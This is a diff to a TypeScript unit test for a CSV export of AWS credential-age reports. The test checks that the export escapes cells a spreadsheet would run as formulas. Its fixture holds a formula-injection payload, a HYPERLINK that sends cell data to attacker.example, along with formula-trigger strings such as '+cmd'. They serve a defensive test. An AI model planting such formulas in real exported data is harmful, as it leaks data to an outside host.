@@ -1,8 +1,9 @@
 import { parse } from 'csv-parse/sync'
 import { describe, expect, it } from 'vitest'
-import { credentialReportCsv, type CredentialAgeReport, type KeyStanding } from './credential-age.js'
+import { DEFAULT_LIMITS } from '../credentials/standing.js'
+import { credentialReportCsv, type CredentialAgeReport, type ReportedKey } from './credential-age.js'
 
-const KEY: KeyStanding = {
+const KEY: ReportedKey = {
   account: '111122223333',
   user: '=HYPERLINK("https://attacker.example/?"&A1,"click")',
   access_key_id: 'AKIAEXAMPLE000000001',
@@ -23,7 +24,7 @@ const KEY: KeyStanding = {
 
 describe('the credential report as CSV', () => {
   it('keeps cells a spreadsheet would run as formulas as text', () => {
-    const report: CredentialAgeReport = { at: '2026-11-23T07:00:00.000Z', limits: { rotationDays: 90, unusedDays: 45 }, sources: [], keys: [KEY], usersWithoutMfa: [] }
+    const report: CredentialAgeReport = { at: '2026-11-23T07:00:00.000Z', limits: DEFAULT_LIMITS, sources: [], keys: [KEY], usersWithoutMfa: [] }
     const [row] = parse<Record<string, string>>(credentialReportCsv(report), { columns: true })
     expect(row).toMatchObject({ user: `'${KEY.user}`, last_address: "'@SUM(1+1)", last_region: "'+cmd", last_service: "'-2+3", access_key_id: 'AKIAEXAMPLE000000001', standing: 'rotate, unused' })
   })
